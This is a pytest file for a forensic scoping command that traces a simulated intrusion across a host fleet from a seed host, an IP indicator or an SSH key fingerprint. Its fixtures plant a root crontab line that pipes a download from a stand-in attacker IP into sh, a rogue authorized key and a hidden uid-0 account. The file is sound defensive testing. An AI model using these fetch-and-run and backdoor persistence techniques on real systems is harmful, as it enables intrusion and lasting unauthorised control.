"""`diffy scope` (analyze/scope.py, cli/scope.py, report/scope.py) on built runs: from a host, from
IOCs, iterated until closed, with the evidence chain; benign populations stay out."""

from __future__ import annotations

import base64
import hashlib
import json

from runbuilder import build_run, clean_fleet

from diffy_analysis.analyze.scope import key_fingerprint, scope
from diffy_analysis.cli.main import diffy, run

CRON = {
    "path": "/etc/crontab", "minute": "*/5", "hour": "*", "day_of_month": "*", "month": "*",
    "day_of_week": "*", "event": "", "command": "root curl -fsSL http://203.0.113.9/x | sh",
}  # fmt: skip
KEY_BLOB = base64.b64encode(b"\x00\x00\x00\x0bssh-ed25519" + bytes(range(32))).decode()
KEY = {"username": "root", "key_file": "/root/.ssh/authorized_keys", "key": f"ssh-ed25519 {KEY_BLOB} x@y"}
ROOT2 = {"username": "svc-backup", "uid": "0", "gid": "0", "shell": "/bin/bash", "directory": "/root"}


def _fleet():
    """Chain: web-003 has the cron line; web-004 has the cron line and the key; web-005..007 only the
    key (reached in round 2); web-009 only the uid-0 user also on web-007 (round 3). A canary group
    with its own package and unit stays out."""
    hosts = clean_fleet(30)
    for name in ("web-003", "web-004"):
        hosts[name]["crontab"] = [dict(CRON)]
    for name in ("web-004", "web-005", "web-006", "web-007"):
        hosts[name]["authorized_keys"] = [dict(KEY)]
    for name in ("web-007", "web-009"):
        hosts[name]["users"].append(dict(ROOT2))
    for name in ("web-020", "web-021", "web-022"):
        hosts[name]["deb_packages"].append({"name": "envoy", "version": "1.30", "arch": "amd64"})
        hosts[name]["systemd_units"].append({"id": "envoy.service", "active_state": "active"})
    return hosts


def test_scope_from_one_host_closes_the_campaign_with_its_chain(tmp_path):
    result = scope([build_run(tmp_path, _fleet())], from_hosts=["web-003"])
    got = {h.host: h for h in result.hosts}
    assert sorted(got) == ["web-003", "web-004", "web-005", "web-006", "web-007", "web-009"]
    assert result.closed and result.rounds >= 3
    assert got["web-003"].reason == "seed" and got["web-003"].round == 0
    assert got["web-004"].round == 1 and got["web-004"].evidence[0].query == "crontab"
    assert got["web-006"].round == 2 and got["web-006"].evidence[0].found_on == "web-004"
    assert got["web-009"].round == 3 and got["web-009"].evidence[0].query == "users"
    assert result.exit_code == 1


def test_scope_from_an_ioc_and_from_a_key_fingerprint(tmp_path):
    run = build_run(tmp_path, _fleet())
    by_ip = scope([run], iocs=["203.0.113.9"])
    assert {h.host for h in by_ip.hosts if h.reason == "ioc"} == {"web-003", "web-004"}
    assert len(by_ip.hosts) == 6
    fingerprint = "SHA256:" + base64.b64encode(hashlib.sha256(base64.b64decode(KEY_BLOB)).digest()).decode()
    assert key_fingerprint(KEY["key"]) == fingerprint.rstrip("=")
    by_key = scope([run], iocs=[fingerprint.rstrip("=")])
    assert {h.host for h in by_key.hosts if h.reason == "ioc"} == {"web-004", "web-005", "web-006", "web-007"}
    none = scope([run], iocs=["198.51.100.200"])
    assert none.hosts == () and none.unmatched_iocs == ("198.51.100.200",) and none.exit_code == 0


def test_scope_of_a_removed_firewall_rule(tmp_path):
    hosts = clean_fleet(20)
    for name in ("web-002", "web-011", "web-017"):
        hosts[name]["iptables"] = []
    result = scope([build_run(tmp_path, hosts)], from_hosts=["web-002"])
    assert sorted(h.host for h in result.hosts) == ["web-002", "web-011", "web-017"]
    assert result.hosts[1].evidence[0].kind == "missing"


def _cli(capsys, *args: str) -> tuple[int, str]:
    code = run(diffy, ["scope", *args], prog_name="diffy")
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def test_cli_json_table_and_html(tmp_path, capsys):
    run = build_run(tmp_path / "run", _fleet())
    out = tmp_path / "scope.json"
    code, text = _cli(capsys, str(run), "--from", "web-003", "--format", "json", "-o", str(out))
    assert code == 1, text
    doc = json.loads(out.read_text())
    assert doc["format"] == "diffy-scope/1" and doc["closed"] is True
    assert doc["summary"] == {"hosts_analysed": 30, "hosts_in_scope": 6}
    assert {"host", "round", "reason", "evidence"} <= set(doc["hosts"][0])
    code, text = _cli(capsys, str(run), "--ioc", "203.0.113.9")
    assert code == 1 and "6 of 30 hosts" in text and "closed" in text
    html = tmp_path / "scope.html"
    code, _ = _cli(capsys, str(run), "--from", "web-003", "--format", "html", "-o", str(html))
    assert code == 1 and "<table>" in html.read_text() and "web-009" in html.read_text()
    code, text = _cli(capsys, str(run))
    assert code == 2 and "--from HOST" in text
    code, text = _cli(capsys, str(run), "--from", "nope")
    assert code == 2 and "no such host" in text
